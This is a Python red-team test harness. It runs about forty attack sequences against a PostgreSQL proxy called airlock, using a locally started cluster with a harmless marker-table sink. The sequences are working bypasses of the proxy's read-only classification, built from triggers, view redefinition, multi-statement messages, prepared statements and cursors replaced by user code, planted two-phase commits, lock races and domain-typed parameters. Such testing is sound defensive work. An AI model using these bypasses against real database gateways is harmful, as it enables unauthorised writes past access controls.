#!/usr/bin/env python3
"""Red-team round 4 against airlock.

Starts its own PostgreSQL 15 cluster and an airlock in front of it (free ports),
plants objects directly upstream, and for every attack runs
  (1) a positive control DIRECT against PostgreSQL (the marker must appear),
  (2) reset, wait 2.5 s,
  (3) the same sequence THROUGH airlock.
LEAK = marker appeared through airlock and airlock sent no hold notice/refusal.
The sink of every attack is public.mark(tag) -> dblink_exec insert into marker,
which bypasses read-only transactions.
"""
import os
import shutil
import socket
import struct
import subprocess
import sys
import time
import traceback

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import pgwire as w  # noqa: E402

AIRLOCK = os.path.join(HERE, "airlock")
POLICIES = os.path.join(HERE, "policies") if os.path.isdir(os.path.join(HERE, "policies")) else os.path.join(HERE, "policies3")
PGBIN = "/usr/lib/postgresql/15/bin"
HOLD_TIMEOUT = 2.0


def free_port():
    while True:
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        p = s.getsockname()[1]
        s.close()
        if p != 55999:
            return p


class Env:
    def __init__(self):
        self.base = "/tmp/rt4run.%d" % os.getpid()
        self.pgport = free_port()
        self.alport = free_port()
        self.adport = free_port()
        self.airlock = None

    def start(self):
        os.makedirs(self.base)
        shutil.chown(self.base, "postgres")
        data = self.base + "/data"
        subprocess.run(["runuser", "-u", "postgres", "--", PGBIN + "/initdb", "-D", data, "-A", "trust",
                        "-U", "postgres"], check=True, stdout=subprocess.DEVNULL)
        with open(data + "/postgresql.conf", "a") as f:
            f.write("\nport=%d\nlisten_addresses='127.0.0.1'\nunix_socket_directories='%s'\n"
                    "max_prepared_transactions=20\nfsync=off\n" % (self.pgport, self.base))
        subprocess.run(["runuser", "-u", "postgres", "--", PGBIN + "/pg_ctl", "-D", data, "-l",
                        self.base + "/pg.log", "-w", "start"], check=True, stdout=subprocess.DEVNULL)
        c = self.direct()
        c.exec_ok("""
create extension dblink; create extension file_fdw; create extension postgres_fdw;
create table public.marker(v text, at timestamptz default clock_timestamp());
grant all on public.marker to public;
create function public.mark(t text) returns int language plpgsql security definer as $f$
begin
  perform public.dblink_exec('host=127.0.0.1 port=%d dbname=postgres user=postgres',
                             'insert into public.marker(v) values(' || quote_literal(t) || ')');
  return 1;
end $f$;
grant execute on function public.mark(text) to public;
create role app login;
""" % self.pgport)
        c.close()
        self.start_airlock()

    def start_airlock(self):
        """A fresh airlock for every attack, so that state one attack leaves in the proxy
        (caches, catalog knowledge) cannot mask or help another."""
        self.stop_airlock()
        self.airlock_log = open(self.base + "/airlock.log", "a")
        self.airlock = subprocess.Popen(
            [AIRLOCK, "serve", "--listen", "127.0.0.1:%d" % self.alport,
             "--upstream", "127.0.0.1:%d" % self.pgport,
             "--admin-listen", "127.0.0.1:%d" % self.adport,
             "--policies", POLICIES, "--store", "sqlite://%s/airlock.db" % self.base],
            stdout=self.airlock_log, stderr=subprocess.STDOUT, cwd=self.base)
        for _ in range(100):
            try:
                socket.create_connection(("127.0.0.1", self.alport), timeout=0.2).close()
                break
            except OSError:
                time.sleep(0.1)

    def stop_airlock(self):
        if self.airlock:
            self.airlock.terminate()
            try:
                self.airlock.wait(10)
            except subprocess.TimeoutExpired:
                self.airlock.kill()
                self.airlock.wait()
            self.airlock = None

    def stop(self):
        self.stop_airlock()
        subprocess.run(["runuser", "-u", "postgres", "--", PGBIN + "/pg_ctl", "-D", self.base + "/data",
                        "-m", "immediate", "stop"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        if not os.environ.get("KEEP"):
            shutil.rmtree(self.base, ignore_errors=True)

    def direct(self, user="postgres", **kw):
        p = {"user": user, "database": "postgres"}
        p.update(kw)
        return w.Conn("127.0.0.1", self.pgport, p, timeout=10)

    def marker(self, tag):
        c = self.direct()
        try:
            return int(c.scalar("select count(*) from public.marker where v like %s" % q(tag + "%")))
        finally:
            c.close()

    def clear_marker(self):
        c = self.direct()
        c.exec_ok("delete from public.marker")
        c.close()


def q(s):
    return "'" + s.replace("'", "''") + "'"


def is_hold(m):
    if isinstance(m, str):
        return m in ("TIMEOUT", "CLOSED")
    if m.t in (b"E", b"N"):
        txt = (m.fields.get("M") or "") + (m.fields.get("D") or "")
        return "airlock" in txt.lower()
    return False


class Ctx:
    """Runs a sequence against either the direct port or the airlock port."""

    def __init__(self, env, port, via):
        self.env = env
        self.port = port
        self.via = via
        self.conns = {}
        self.log = []
        self.held = []

    def conn(self, name="a", user="postgres", **params):
        if name not in self.conns:
            p = {"user": user, "database": "postgres"}
            p.update(params)
            self.conns[name] = w.Conn("127.0.0.1", self.port, p, timeout=10)
            for m in self.conns[name].startup_msgs:
                if is_hold(m):
                    self.held.append(("startup", m))
        return self.conns[name]

    def _record(self, what, res):
        hs = [m for m in res if is_hold(m)]
        if hs:
            self.held.append((what, hs[0]))
        self.log.append("%s -> %s" % (what[:90].replace("\n", " "), w.summarize(res)[:200]))
        return res

    def q(self, sql, c="a", timeout=HOLD_TIMEOUT, user="postgres"):
        cn = self.conn(c, user=user)
        return self._record("[%s] %s" % (c, sql), cn.query(sql, timeout=timeout))

    def send(self, data, c="a", user="postgres"):
        self.conn(c, user=user).send(data)

    def wait(self, what, c="a", n=1, timeout=HOLD_TIMEOUT):
        return self._record("[%s] %s" % (c, what), self.conns[c].until_ready(n, timeout))

    def raw(self, what, data, c="a", n=1, timeout=HOLD_TIMEOUT, user="postgres"):
        cn = self.conn(c, user=user)
        cn.send(data)
        return self._record("[%s] %s" % (c, what), cn.until_ready(n, timeout))

    def close(self):
        for cn in self.conns.values():
            cn.close()
        self.conns = {}


class Attack:
    def __init__(self, name, setup, seq, teardown="", desc="", user="postgres"):
        self.name = name
        self.setup = setup
        self.seq = seq
        self.teardown = teardown
        self.desc = desc


ATTACKS = []


def attack(name, setup="", teardown="", desc=""):
    def deco(fn):
        ATTACKS.append(Attack(name, setup, fn, teardown, desc or (fn.__doc__ or "").strip()))
        return fn
    return deco


def subst(env, S, sql):
    return sql.replace("$S", S).replace("$PORT", str(env.pgport))


def run_sql_direct(env, sql, S=""):
    """sql: a string, a callable f(env, conn, S) or a list of those."""
    if not sql:
        return
    parts = sql if isinstance(sql, (list, tuple)) else [sql]
    for part in parts:
        if not part:
            continue
        c = env.direct()
        try:
            if callable(part):
                part(env, c, S)
            else:
                c.exec_ok(subst(env, S, part))
        finally:
            c.close()


def reset(env, a):
    S = schema(a.name)
    run_sql_direct(env, a.teardown, S)
    run_sql_direct(env, "drop schema if exists %s cascade" % S)
    run_sql_direct(env, "create schema %s; grant usage, create on schema %s to public" % (S, S))
    run_sql_direct(env, a.setup, S)
    env.clear_marker()


def schema(name):
    return "a_" + name.replace("-", "_")


def run_one(env, a):
    S = schema(a.name)
    # (1) positive control, direct
    reset(env, a)
    ctx = Ctx(env, env.pgport, "direct")
    ctx.S = S
    try:
        a.seq(ctx)
    except Exception as e:  # noqa
        ctx.log.append("EXC %r" % e)
    finally:
        ctx.close()
    time.sleep(0.3)
    ctl = env.marker(a.name)
    ctl_log = ctx.log
    if ctl == 0:
        return "BROKEN", ctl_log, [], []
    # (2) fresh airlock (long-running from here on), reset/plant, wait past the poll window
    env.start_airlock()
    time.sleep(0.5)
    reset(env, a)
    time.sleep(2.6)
    # (3) through airlock
    ctx = Ctx(env, env.alport, "airlock")
    ctx.S = S
    try:
        a.seq(ctx)
    except Exception as e:  # noqa
        ctx.log.append("EXC %r" % e)
    finally:
        ctx.close()
    time.sleep(0.5)
    got = env.marker(a.name)
    if got and not ctx.held:
        verdict = "LEAK"
    elif got and ctx.held:
        verdict = "LEAK?(marker+hold)"
    else:
        verdict = "BLOCKED"
    return verdict, ctl_log, ctx.log, ctx.held


# ---------------------------------------------------------------------------------------------
# attacks
# ---------------------------------------------------------------------------------------------
# ---------------------------------------------------------------------------------------------
# attack definitions
# ---------------------------------------------------------------------------------------------

def TRG(body, when="before insert", table="trg", extra=""):
    """table $S.<table>(a int) with a row trigger running plpgsql BODY."""
    return """
create table $S.%(t)s(a int primary key);
create function $S.%(t)s_f() returns trigger language plpgsql security definer as $b$
begin %(body)s; return new; end $b$;
create trigger %(t)s_t %(when)s on $S.%(t)s for each row execute function $S.%(t)s_f();
%(extra)s
""" % {"t": table, "body": body, "when": when, "extra": extra}


def DEFTRG(body, table="deft"):
    return """
create table $S.%(t)s(a int);
create function $S.%(t)s_f() returns trigger language plpgsql security definer as $b$
begin %(body)s; return null; end $b$;
create constraint trigger %(t)s_t after insert on $S.%(t)s deferrable initially deferred
  for each row execute function $S.%(t)s_f();
""" % {"t": table, "body": body}


VIEW = "create view $S.v as select 1 as a;\n"
REDEFINE = "execute 'create or replace view $S.v as select public.mark(''%s'') as a'"
SCS_QUERY = "select 'a\\' -- ', public.mark('%s') ;"


def ext_bind_exec(stmt, params=(), portal=""):
    return w.B(portal, stmt, params) + w.E(portal) + w.S()


def oid_of(ctx, sql):
    c = ctx.env.direct()
    try:
        return int(c.scalar(sql))
    finally:
        c.close()


def direct_exec(ctx, sql):
    c = ctx.env.direct()
    try:
        c.exec_ok(sql)
    finally:
        c.close()


def plant_2pc(gid, body):
    def f(env, c, S):
        c.exec_ok("begin")
        c.exec_ok(subst(env, S, body))
        c.exec_ok("prepare transaction '%s'" % gid)
    return f


def drop_2pc(*gids):
    def f(env, c, S):
        for g in gids:
            if c.scalar("select count(*) from pg_prepared_xacts where gid = '%s'" % g) != "0":
                c.exec_ok("rollback prepared '%s'" % g)
    return f


def seq_setup(*parts):
    """Combine SQL strings (with $S/$PORT) and callables into one setup callable."""
    def f(env, c, S=None):
        raise RuntimeError
    return parts


# ---- two-phase commit ------------------------------------------------------------------------

@attack("twophase_commit_planted",
        setup=[plant_2pc("rt4_p1", "insert into public.marker(v) values('twophase_commit_planted')")], teardown=drop_2pc("rt4_p1"))
def a_2pc1(ctx):
    """A prepared transaction planted upstream holds INSERT INTO marker; COMMIT PREPARED is
    classified kind=transaction (risk two_phase) and forwarded."""
    ctx.q("commit prepared 'rt4_p1'")


@attack("twophase_view_then_read",
        setup=[VIEW, plant_2pc("rt4_p2", "create or replace view $S.v as select public.mark('twophase_view_then_read') as a")], teardown=drop_2pc("rt4_p2"))
def a_2pc2(ctx):
    """A planted prepared transaction redefines view v to call mark(); the client commits it
    through airlock (allowed) and then reads v."""
    ctx.q("commit prepared 'rt4_p2'")
    ctx.q("select * from %s.v" % ctx.S)


@attack("twophase_lockwait_race",
        setup=[VIEW, plant_2pc("rt4_p3", "create or replace view $S.v as select public.mark('twophase_lockwait_race') as a")], teardown=drop_2pc("rt4_p3"))
def a_2pc3(ctx):
    """Read of v is classified against the committed (innocent) view, then blocks on the lock
    of the planted prepared transaction; session b commits it (allowed); the read resumes with
    the new definition."""
    ctx.send(w.Q("select * from %s.v" % ctx.S), c="a")
    time.sleep(0.7)
    ctx.q("commit prepared 'rt4_p3'", c="b")
    ctx.wait("(read of v resumes)", c="a", timeout=4)


@attack("lockwait_race_trigger_ddl",
        setup=VIEW + TRG(REDEFINE % "lockwait_race_trigger_ddl"))
def a_race(ctx):
    """Session b: BEGIN; allowed INSERT whose trigger redefines v (uncommitted). Session a reads v
    (classified against the committed innocent view, blocks on the lock). b COMMITs."""
    ctx.q("begin", c="b")
    ctx.q("insert into %s.trg values (1)" % ctx.S, c="b")
    ctx.send(w.Q("select * from %s.v" % ctx.S), c="a")
    time.sleep(0.7)
    ctx.q("commit", c="b")
    ctx.wait("(read of v resumes)", c="a", timeout=4)


# ---- same-message / pipeline ordering -----------------------------------------------------

@attack("multistmt_insert_then_read", setup=VIEW + TRG(REDEFINE % "multistmt_insert_then_read"))
def a_ms1(ctx):
    """One simple-query message: allowed INSERT (trigger redefines v) ; SELECT from v. The
    proxy classifies the read before the INSERT has run."""
    ctx.q("insert into %s.trg values (1); select * from %s.v" % (ctx.S, ctx.S))


@attack("pipeline_insert_then_read", setup=VIEW + TRG(REDEFINE % "pipeline_insert_then_read"))
def a_pl1(ctx):
    """Extended protocol pipeline, one Sync: Parse/Bind/Execute INSERT (trigger redefines v),
    then Parse/Bind/Execute SELECT from v."""
    S = ctx.S
    ctx.raw("pipeline insert; select v",
            w.P("", "insert into %s.trg values (1)" % S) + w.B() + w.E()
            + w.P("", "select * from %s.v" % S) + w.B() + w.E() + w.S())


@attack("pipeline_two_syncs_insert_then_read",
        setup=VIEW + TRG(REDEFINE % "pipeline_two_syncs_insert_then_read"))
def a_pl2(ctx):
    """Like pipeline_insert_then_read but with a Sync after each statement (psycopg pipeline)."""
    S = ctx.S
    ctx.raw("pipeline insert|sync|select v|sync",
            w.P("", "insert into %s.trg values (1)" % S) + w.B() + w.E() + w.S()
            + w.P("", "select * from %s.v" % S) + w.B() + w.E() + w.S(), n=2)


@attack("multistmt_tempview_shadow",
        setup="create table public.rt4_shadow1(a int);\n"
        + TRG("execute 'create temp view rt4_shadow1 as select public.mark(''multistmt_tempview_shadow'') as a'"),
        teardown="drop table if exists public.rt4_shadow1")
def a_ms2(ctx):
    """One message: allowed INSERT whose trigger creates a TEMP VIEW shadowing public table
    rt4_shadow1 ; SELECT * FROM rt4_shadow1."""
    ctx.q("insert into %s.trg values (1); select * from rt4_shadow1" % ctx.S)


@attack("multistmt_cursor_fetch",
        setup=TRG("declare r refcursor := 'cx'; begin open r for select public.mark('multistmt_cursor_fetch'); end"))
def a_ms3(ctx):
    """One message: BEGIN; allowed INSERT whose trigger opens cursor cx over mark(); FETCH cx; COMMIT."""
    ctx.q("begin; insert into %s.trg values (1); fetch cx; commit" % ctx.S)


# ---- cached facts of prepared statements / simple query shapes -----------------------------

@attack("prepstmt_upstream_redefine", setup=VIEW)
def a_ps1(ctx):
    """Parse named statement s1 = SELECT * FROM v (innocent). v is redefined DIRECTLY upstream,
    wait 2.6 s (past the poll window), then Bind/Execute s1: Postgres re-analyzes it."""
    S = ctx.S
    ctx.raw("parse s1", w.P("s1", "select * from %s.v" % S) + w.S())
    direct_exec(ctx, "create or replace view %s.v as select public.mark('prepstmt_upstream_redefine') as a" % S)
    time.sleep(2.6)
    ctx.raw("bind/execute s1", ext_bind_exec("s1"))


@attack("prepstmt_trigger_redefine", setup=VIEW + TRG(REDEFINE % "prepstmt_trigger_redefine"))
def a_ps2(ctx):
    """Parse s1 = SELECT * FROM v; allowed INSERT whose trigger redefines v; Bind/Execute s1."""
    S = ctx.S
    ctx.raw("parse s1", w.P("s1", "select * from %s.v" % S) + w.S())
    ctx.q("insert into %s.trg values (1)" % S)
    ctx.raw("bind/execute s1", ext_bind_exec("s1"))


@attack("prepstmt_other_session_redefine",
        setup=VIEW + TRG(REDEFINE % "prepstmt_other_session_redefine"))
def a_ps3(ctx):
    """Session a parses s1 = SELECT * FROM v; session b runs the allowed INSERT (trigger redefines
    v); session a Bind/Executes s1 at once."""
    S = ctx.S
    ctx.raw("parse s1", w.P("s1", "select * from %s.v" % S) + w.S(), c="a")
    ctx.q("insert into %s.trg values (1)" % S, c="b")
    ctx.raw("bind/execute s1", ext_bind_exec("s1"), c="a")


@attack("sqlprepare_then_protocol_bind",
        setup=VIEW + TRG(REDEFINE % "sqlprepare_then_protocol_bind"))
def a_ps4(ctx):
    """SQL PREPARE s1 AS SELECT * FROM v (read); allowed INSERT redefines v; then protocol
    Bind('s1')/Execute (no SQL EXECUTE, which would be held)."""
    S = ctx.S
    ctx.q("prepare s1 as select * from %s.v" % S)
    ctx.q("insert into %s.trg values (1)" % S)
    ctx.raw("bind/execute s1", ext_bind_exec("s1"))


@attack("simplequery_cache_other_session",
        setup=VIEW + TRG(REDEFINE % "simplequery_cache_other_session"))
def a_sc1(ctx):
    """Session a: SELECT * FROM v WHERE a = 1 (cached shape). Session b: allowed INSERT redefines v.
    Session a: same shape with another constant."""
    S = ctx.S
    ctx.q("select * from %s.v where a = 1" % S, c="a")
    ctx.q("insert into %s.trg values (1)" % S, c="b")
    ctx.q("select * from %s.v where a = 2" % S, c="a")


@attack("usercode_prepare_protocol_bind",
        setup=TRG("execute 'prepare s9 as select public.mark(''usercode_prepare_protocol_bind'')'"))
def a_ps5(ctx):
    """Allowed INSERT whose trigger runs EXECUTE 'PREPARE s9 AS SELECT mark()'; the client then
    Binds/Executes s9 over the protocol (never Parsed through the proxy)."""
    ctx.q("insert into %s.trg values (1)" % ctx.S)
    ctx.raw("bind/execute s9", ext_bind_exec("s9"))


@attack("usercode_replace_protocol_stmt",
        setup=TRG("execute 'deallocate s1'; execute 'prepare s1 as select public.mark(''usercode_replace_protocol_stmt'')'"))
def a_ps6(ctx):
    """Client Parses s1 = SELECT 1 (read). Allowed INSERT whose trigger DEALLOCATEs s1 and PREPAREs
    s1 AS SELECT mark(). Client Binds/Executes s1."""
    ctx.raw("parse s1", w.P("s1", "select 1") + w.S())
    ctx.q("insert into %s.trg values (1)" % ctx.S)
    ctx.raw("bind/execute s1", ext_bind_exec("s1"))


@attack("sql_deallocate_reprepare_bind", setup="")
def a_ps7(ctx):
    """Client Parses s1 = SELECT 1 via protocol; SQL DEALLOCATE s1 (session); SQL PREPARE s1 AS
    SELECT mark() -- if held we stop; then protocol Bind s1."""
    ctx.raw("parse s1", w.P("s1", "select 1") + w.S())
    ctx.q("deallocate s1")
    ctx.q("prepare s1 as select public.mark('sql_deallocate_reprepare_bind')")
    ctx.raw("bind/execute s1", ext_bind_exec("s1"))


# ---- cursors / portals opened by user code -------------------------------------------------

CUR_OPEN = "declare r refcursor := 'cx'; begin open r for select public.mark('%s'); end"


@attack("usercode_portal_protocol_execute", setup=TRG(CUR_OPEN % "usercode_portal_protocol_execute"))
def a_cu1(ctx):
    """BEGIN; allowed INSERT whose trigger opens cursor cx over mark(); then a bare protocol
    Execute('cx') + Sync (no Bind, no FETCH text)."""
    ctx.q("begin")
    ctx.q("insert into %s.trg values (1)" % ctx.S)
    ctx.raw("Execute portal cx", w.E("cx") + w.S())
    ctx.q("commit")


@attack("usercode_execute_declare_fetch",
        setup=TRG("execute 'declare cx cursor for select public.mark(''usercode_execute_declare_fetch'')'"))
def a_cu2(ctx):
    """BEGIN; allowed INSERT whose trigger runs EXECUTE 'DECLARE cx CURSOR FOR SELECT mark()'; FETCH cx."""
    ctx.q("begin")
    ctx.q("insert into %s.trg values (1)" % ctx.S)
    ctx.q("fetch cx")
    ctx.q("commit")


@attack("usercode_cursor_move", setup=TRG(CUR_OPEN % "usercode_cursor_move"))
def a_cu3(ctx):
    """BEGIN; allowed INSERT opens cursor cx over mark(); MOVE ALL IN cx (no rows returned)."""
    ctx.q("begin")
    ctx.q("insert into %s.trg values (1)" % ctx.S)
    ctx.q("move all in cx")
    ctx.q("commit")


@attack("cursor_name_swap",
        setup=TRG("declare r refcursor := 'cx'; begin close r; open r for select public.mark('cursor_name_swap'); end"))
def a_cu4(ctx):
    """BEGIN; DECLARE cx CURSOR FOR SELECT 1 (proxy knows cx is innocent); allowed INSERT whose trigger
    CLOSEs cx and re-OPENs cx over mark(); FETCH cx."""
    ctx.q("begin")
    ctx.q("declare cx cursor for select 1")
    ctx.q("insert into %s.trg values (1)" % ctx.S)
    ctx.q("fetch cx")
    ctx.q("commit")


@attack("deferred_trigger_setconstraints_cursor",
        setup=DEFTRG("declare r refcursor := 'cx'; begin open r for select public.mark('deferred_trigger_setconstraints_cursor'); end"))
def a_cu5(ctx):
    """BEGIN; INSERT into table with a DEFERRED constraint trigger (does nothing yet);
    SET CONSTRAINTS ALL IMMEDIATE (transaction statement) fires it: opens cursor cx; FETCH cx."""
    ctx.q("begin")
    ctx.q("insert into %s.deft values (1)" % ctx.S)
    ctx.q("set constraints all immediate")
    ctx.q("fetch cx")
    ctx.q("commit")


@attack("deferred_trigger_commit_tempview",
        setup="create table public.rt4_shadow2(a int);\n"
        + DEFTRG("execute 'create temp view rt4_shadow2 as select public.mark(''deferred_trigger_commit_tempview'') as a'"),
        teardown="drop table if exists public.rt4_shadow2")
def a_cu6(ctx):
    """BEGIN; INSERT (deferred trigger queued); COMMIT fires it: CREATE TEMP VIEW rt4_shadow2 shadowing
    the public table; then SELECT * FROM rt4_shadow2."""
    ctx.q("begin")
    ctx.q("insert into %s.deft values (1)" % ctx.S)
    ctx.q("commit")
    ctx.q("select * from rt4_shadow2")


@attack("deferred_trigger_commit_redefine",
        setup=VIEW + DEFTRG(REDEFINE % "deferred_trigger_commit_redefine"))
def a_cu7(ctx):
    """BEGIN; INSERT (deferred trigger queued); COMMIT fires it: redefines v; SELECT * FROM v."""
    ctx.q("begin")
    ctx.q("insert into %s.deft values (1)" % ctx.S)
    ctx.q("commit")
    ctx.q("select * from %s.v" % ctx.S)


@attack("deferred_trigger_prepare_transaction",
        setup=VIEW + DEFTRG(REDEFINE % "deferred_trigger_prepare_transaction"),
        teardown=drop_2pc("rt4_p4"))
def a_cu8(ctx):
    """BEGIN; INSERT (deferred trigger); PREPARE TRANSACTION fires it (redefines v);
    COMMIT PREPARED; SELECT * FROM v."""
    ctx.q("begin")
    ctx.q("insert into %s.deft values (1)" % ctx.S)
    ctx.q("prepare transaction 'rt4_p4'")
    ctx.q("commit prepared 'rt4_p4'")
    ctx.q("select * from %s.v" % ctx.S)


# ---- more entry points into the "multi-statement message" gap -----------------------------

@attack("multistmt_on_conflict_update_trigger",
        setup=VIEW + TRG(REDEFINE % "multistmt_on_conflict_update_trigger", when="before update")
        + "insert into $S.trg values (1);\n")
def a_ms4(ctx):
    """One message: INSERT ... ON CONFLICT (a) DO UPDATE (only the BEFORE UPDATE trigger fires and
    redefines v) ; SELECT * FROM v."""
    ctx.q("insert into %s.trg values (1) on conflict (a) do update set a = excluded.a; select * from %s.v"
          % (ctx.S, ctx.S))


@attack("multistmt_partition_row_move",
        setup=VIEW + """
create table $S.pm(a int) partition by range (a);
create table $S.pm1 partition of $S.pm for values from (0) to (10);
create table $S.pm2 partition of $S.pm for values from (10) to (20);
create function $S.pmf() returns trigger language plpgsql security definer as $b$ begin
  execute 'create or replace view $S.v as select public.mark(''multistmt_partition_row_move'') as a'; return new; end $b$;
create trigger pm2_t before insert on $S.pm2 for each row execute function $S.pmf();
insert into $S.pm values (1);
""")
def a_ms5(ctx):
    """One message: UPDATE pm SET a = 15 (row moves to partition pm2, whose BEFORE INSERT trigger
    redefines v) ; SELECT * FROM v."""
    ctx.q("update %s.pm set a = 15 where a = 1; select * from %s.v" % (ctx.S, ctx.S))


@attack("multistmt_fk_cascade_child_trigger",
        setup=VIEW + """
create table $S.par(id int primary key);
create table $S.chi(id int references $S.par on delete cascade);
create function $S.cf() returns trigger language plpgsql security definer as $b$ begin
  execute 'create or replace view $S.v as select public.mark(''multistmt_fk_cascade_child_trigger'') as a'; return old; end $b$;
create trigger chi_t before delete on $S.chi for each row execute function $S.cf();
insert into $S.par values (1); insert into $S.chi values (1);
""")
def a_ms6(ctx):
    """One message: DELETE FROM par (FK cascade deletes a child row; the child's trigger redefines v) ;
    SELECT * FROM v."""
    ctx.q("delete from %s.par where id = 1; select * from %s.v" % (ctx.S, ctx.S))


@attack("multistmt_column_default_tempview",
        setup="create table public.rt4_shadow3(a int);\n"
        "create function $S.df() returns int language plpgsql security definer as $b$ begin "
        "execute 'create temp view rt4_shadow3 as select public.mark(''multistmt_column_default_tempview'') as a'; return 1; end $b$;\n"
        "create table $S.dt(a int default $S.df(), b int);\n",
        teardown="drop table if exists public.rt4_shadow3")
def a_ms7(ctx):
    """One message: INSERT INTO dt(b) VALUES (1) (column DEFAULT runs user code creating a temp view
    that shadows public.rt4_shadow3) ; SELECT * FROM rt4_shadow3."""
    ctx.q("insert into %s.dt(b) values (1); select * from rt4_shadow3" % ctx.S)


@attack("multistmt_setconstraints_deferred",
        setup=VIEW + DEFTRG(REDEFINE % "multistmt_setconstraints_deferred"))
def a_ms8(ctx):
    """One message: BEGIN; INSERT (deferred trigger queued); SET CONSTRAINTS ALL IMMEDIATE (fires it,
    redefining v); SELECT * FROM v; COMMIT."""
    S = ctx.S
    ctx.q("begin; insert into %s.deft values (1); set constraints all immediate; select * from %s.v; commit" % (S, S))


@attack("multistmt_commit_deferred_tempview",
        setup="create table public.rt4_shadow4(a int);\n"
        + DEFTRG("execute 'create temp view rt4_shadow4 as select public.mark(''multistmt_commit_deferred_tempview'') as a'"),
        teardown="drop table if exists public.rt4_shadow4")
def a_ms9(ctx):
    """One message: BEGIN; INSERT (deferred trigger); COMMIT (trigger creates temp view shadowing
    public.rt4_shadow4); SELECT * FROM rt4_shadow4."""
    ctx.q("begin; insert into %s.deft values (1); commit; select * from rt4_shadow4" % ctx.S)


@attack("multistmt_insert_returning_opens_cursor",
        setup="create function $S.oc() returns int language plpgsql security definer as $b$ declare r refcursor := 'cx'; "
        "begin open r for select public.mark('multistmt_insert_returning_opens_cursor'); return 1; end $b$;\n"
        "create table $S.tb(a int);\n")
def a_ms10(ctx):
    """One message: BEGIN; INSERT ... RETURNING oc() (user function in an allowed INSERT opens cursor cx);
    MOVE ALL IN cx; COMMIT."""
    ctx.q("begin; insert into %s.tb values (1) returning %s.oc(); move all in cx; commit" % (ctx.S, ctx.S))


@attack("create_index_expression_cursor_multistmt",
        setup="create table $S.tb(a int); insert into $S.tb values (1);\n"
        "create function $S.ixf(x int) returns int language plpgsql immutable as $b$ declare r refcursor := 'cx'; begin "
        "open r for select public.mark('create_index_expression_cursor_multistmt'); return x; end $b$;\n")
def a_ix3(ctx):
    """One message: BEGIN; CREATE INDEX on an expression of a planted 'immutable' function that opens
    cursor cx over mark(); FETCH cx; COMMIT."""
    ctx.q("begin; create index on %s.tb (%s.ixf(a)); fetch cx; commit" % (ctx.S, ctx.S))


# ---- protocol-level statements / portals replaced by user code ---------------------------

@attack("usercode_replace_protocol_portal",
        setup=TRG("declare r refcursor := 'p1'; begin close r; open r for select public.mark('usercode_replace_protocol_portal'); end"))
def a_pp3(ctx):
    """BEGIN; Parse s1 = SELECT 1, Bind portal p1 (proxy knows p1 is a read); allowed INSERT whose trigger
    CLOSEs portal p1 and re-OPENs p1 over mark(); Execute p1."""
    ctx.q("begin")
    ctx.raw("Parse s1/Bind p1", w.P("s1", "select 1") + w.B("p1", "s1") + w.S())
    ctx.q("insert into %s.trg values (1)" % ctx.S)
    ctx.raw("Execute p1", w.E("p1") + w.S())
    ctx.q("commit")


@attack("usercode_replace_stmt_other_name_sql",
        setup=TRG("execute 'deallocate all'; execute 'prepare s1 as select public.mark(''usercode_replace_stmt_other_name_sql'')'"))
def a_ps8(ctx):
    """SQL PREPARE s1 AS SELECT 1 (read); allowed INSERT whose trigger runs DEALLOCATE ALL and
    PREPARE s1 AS SELECT mark(); protocol Bind/Execute s1."""
    ctx.q("prepare s1 as select 1")
    ctx.q("insert into %s.trg values (1)" % ctx.S)
    ctx.raw("bind/execute s1", ext_bind_exec("s1"))


@attack("twophase_commit_then_read_pipeline",
        setup=[VIEW, plant_2pc("rt4_p5", "create or replace view $S.v as select public.mark('twophase_commit_then_read_pipeline') as a")],
        teardown=drop_2pc("rt4_p5"))
def a_2pc4(ctx):
    """Pipeline: COMMIT PREPARED (planted txn redefines v) | Sync | SELECT * FROM v | Sync."""
    ctx.raw("pipeline commit prepared|sync|select v|sync",
            w.P("", "commit prepared 'rt4_p5'") + w.B() + w.E() + w.S()
            + w.P("", "select * from %s.v" % ctx.S) + w.B() + w.E() + w.S(), n=2)


@attack("lockwait_race_fk_cascade",
        setup=VIEW + """
create table $S.par(id int primary key);
create table $S.chi(id int references $S.par on delete cascade);
create function $S.cf() returns trigger language plpgsql security definer as $b$ begin
  execute 'create or replace view $S.v as select public.mark(''lockwait_race_fk_cascade'') as a'; return old; end $b$;
create trigger chi_t before delete on $S.chi for each row execute function $S.cf();
insert into $S.par values (1); insert into $S.chi values (1);
""")
def a_race2(ctx):
    """Session b: BEGIN; DELETE FROM par (cascade; child trigger redefines v, uncommitted). Session a reads
    v (blocks on the view's lock). Session b: COMMIT."""
    ctx.q("begin", c="b")
    ctx.q("delete from %s.par where id = 1" % ctx.S, c="b")
    ctx.send(w.Q("select * from %s.v" % ctx.S), c="a")
    time.sleep(0.7)
    ctx.q("commit", c="b")
    ctx.wait("(read of v resumes)", c="a", timeout=4)


@attack("lockwait_race_extended_protocol",
        setup=VIEW + TRG(REDEFINE % "lockwait_race_extended_protocol"))
def a_race3(ctx):
    """As lockwait_race_trigger_ddl, but the read is Parse/Bind/Execute/Sync (the Parse itself blocks)."""
    ctx.q("begin", c="b")
    ctx.q("insert into %s.trg values (1)" % ctx.S, c="b")
    ctx.send(w.P("", "select * from %s.v" % ctx.S) + w.B() + w.E() + w.S(), c="a")
    time.sleep(0.7)
    ctx.q("commit", c="b")
    ctx.wait("(read of v resumes)", c="a", timeout=4)


# ---- parameter types in Parse carry user code --------------------------------------------

DOMAIN = "create domain $S.posdom as int check (public.mark('%s') > 0);\n"


@attack("parse_param_type_domain", setup=DOMAIN % "parse_param_type_domain")
def a_pt1(ctx):
    """Parse 'SELECT $1' declaring the parameter's type OID as a planted domain whose CHECK calls
    mark(); Bind '5' runs domain_in -> CHECK. The SQL text names no function or type."""
    oid = oid_of(ctx, "select '%s.posdom'::regtype::oid" % ctx.S)
    ctx.raw("P/B/E select $1 ::posdom-oid",
            w.P("", "select $1", types=[oid]) + w.B("", "", ["5"]) + w.E() + w.S())


@attack("parse_param_type_composite",
        setup=DOMAIN % "parse_param_type_composite" + "create type $S.comp as (a $S.posdom);\n")
def a_pt2(ctx):
    """As parse_param_type_domain but the declared type is a composite whose column is the domain;
    Bind '(5)' -> record_in -> domain CHECK."""
    oid = oid_of(ctx, "select '%s.comp'::regtype::oid" % ctx.S)
    ctx.raw("P/B/E select $1 ::comp-oid",
            w.P("", "select $1", types=[oid]) + w.B("", "", ["(5)"]) + w.E() + w.S())


